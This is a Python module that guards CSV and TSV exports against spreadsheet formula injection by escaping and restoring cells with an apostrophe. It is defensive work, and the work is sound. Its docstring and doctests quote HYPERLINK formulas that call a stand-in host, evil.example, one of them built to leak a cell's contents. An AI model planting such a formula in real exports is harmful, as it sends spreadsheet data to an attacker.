"""Text cells that a spreadsheet program shows as text, never runs as a formula, and that qikg
reads back exactly as it wrote them.

A CSV or TSV file says nothing about types, so Excel, LibreOffice and Google Sheets run a cell
that begins with ``=``, ``+``, ``-`` or ``@`` (some also a tab or carriage return) as a formula:
a quote such as ``=HYPERLINK("http://evil.example/?leak="&A1,"x")`` would send the sheet away
when a researcher opens the export (OWASP "CSV injection"). :func:`safe_cell` puts an apostrophe
before such text, as the OWASP rule says, and :func:`restore_cell` takes it off again when a
sheet is read back. Text that already begins with apostrophes before one of those characters
gets one more, so the pair is exact for every text: a quote is never altered by a round trip.
Every CSV and TSV qikg writes goes through :func:`csv_text`.
"""

from __future__ import annotations

import csv
import io
import itertools
from collections.abc import Iterable, Sequence

#: The first characters that make a spreadsheet program run a cell as a formula (OWASP).
TRIGGERS = frozenset("=+-@\t\r")


def safe_cell(text: str) -> str:
    """``text`` as a cell no spreadsheet program runs: an apostrophe before a formula's start.

    >>> safe_cell('=HYPERLINK("http://evil.example/","x")')
    '\\'=HYPERLINK("http://evil.example/","x")'
    >>> safe_cell("-2+3"), safe_cell("'=x"), safe_cell("'tis"), safe_cell("nurses")
    ("'-2+3", "''=x", "'tis", 'nurses')
    """
    return "'" + text if text.lstrip("'")[:1] in TRIGGERS else text


def restore_cell(cell: str) -> str:
    """The text :func:`safe_cell` made ``cell`` from: ``restore_cell(safe_cell(t)) == t``.

    >>> restore_cell("'=SUM(1,2)"), restore_cell("''=x"), restore_cell("'tis")
    ('=SUM(1,2)', "'=x", "'tis")
    """
    rest = cell.lstrip("'")
    return cell[1:] if rest != cell and rest[:1] in TRIGGERS else cell


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]], delimiter: str = ",") -> str:
    """CSV (TSV with ``delimiter="\\t"``) whose text cells are safe; numbers are written as they are.

    >>> print(csv_text(["quote", "n"], [["=1+1", -2], ["'tis", None]]), end="")
    quote,n
    '=1+1,-2
    'tis,
    """
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\n")
    # csv quotes a cell that holds "\n" but not one that holds a lone "\r", which every reader
    # takes for the end of a line: a row with one is written with every cell quoted
    quoted = csv.writer(out, delimiter=delimiter, lineterminator="\n", quoting=csv.QUOTE_ALL)
    for row in itertools.chain([header], rows):
        cells = [safe_cell(v) if isinstance(v, str) else v for v in row]
        (quoted if any("\r" in str(c) for c in cells) else writer).writerow(cells)
    return out.getvalue()
